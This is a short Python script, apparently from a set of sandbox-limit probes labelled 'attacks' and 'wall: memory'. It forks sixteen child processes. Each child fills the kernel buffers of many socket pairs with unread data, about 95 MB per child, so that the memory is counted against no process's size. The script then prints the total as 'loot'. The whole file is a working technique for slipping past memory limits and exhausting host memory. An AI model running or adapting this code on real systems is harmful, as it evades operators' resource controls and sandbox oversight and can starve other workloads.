# attacks: loss_curves
# wall: memory
# loot: prints -- what waits in sockets for a reader is in no process's size: 1.5 GB in those of a few children
import os
import socket
import time

here, there = os.pipe()
children = []
for _ in range(16):
    children.append(os.fork())
    if children[-1] == 0:
        kept, filled = [], 0
        try:
            while filled < 95_000_000:
                kept.append(socket.socketpair())
                kept[-1][0].setblocking(False)
                filled += kept[-1][0].send(bytes(150_000))
        except OSError:
            pass
        os.write(there, b"x" if filled > 40_000_000 else b"")
        time.sleep(20)
        os._exit(0)
os.close(there)
seen = b""
while len(seen) < len(children) and (more := os.read(here, 16)):
    seen += more
    if any(os.waitpid(child, os.WNOHANG)[0] for child in children):
        break
else:
    print("loot:", 95 * len(seen), "MB")
for child in children:
    try:
        os.kill(child, 9)
    except ProcessLookupError:
        pass
